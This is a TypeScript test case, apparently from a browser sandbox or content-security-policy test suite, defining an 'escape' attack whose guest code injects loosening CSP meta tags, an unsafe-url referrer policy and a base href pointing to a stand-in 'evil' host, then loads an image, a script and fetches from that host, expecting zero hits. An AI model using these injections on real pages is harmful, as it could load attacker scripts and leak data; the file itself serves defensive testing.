import type { Attack } from '../attack.ts';

export const attack: Attack = {
  id: '7',
  group: 'escape',
  title: 'loosen the policy with injected base, meta CSP and referrer elements',
  expected: '0 hits: a policy in the document can only tighten',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    const head = (html: string): void => document.head.insertAdjacentHTML('afterbegin', html);
    head(
      `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">`,
    );
    head(
      `<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src *; report-uri ${evil}/7/report">`,
    );
    head('<meta http-equiv="Connection-Allowlist" content="(*)">');
    head('<meta name="referrer" content="unsafe-url">');
    head(`<base href="${evil}/7/">`);
    const image = document.createElement('img');
    image.setAttribute('src', 'relative-image');
    document.body.append(image);
    const script = document.createElement('script');
    script.setAttribute('src', 'relative-script');
    document.body.append(script);
    await fetch('relative-fetch').catch(() => null);
    await fetch(`${evil}/7/fetch`).catch(() => null);
    await pause(300);
    return document.baseURI;
  },
  judge: () => undefined,
};
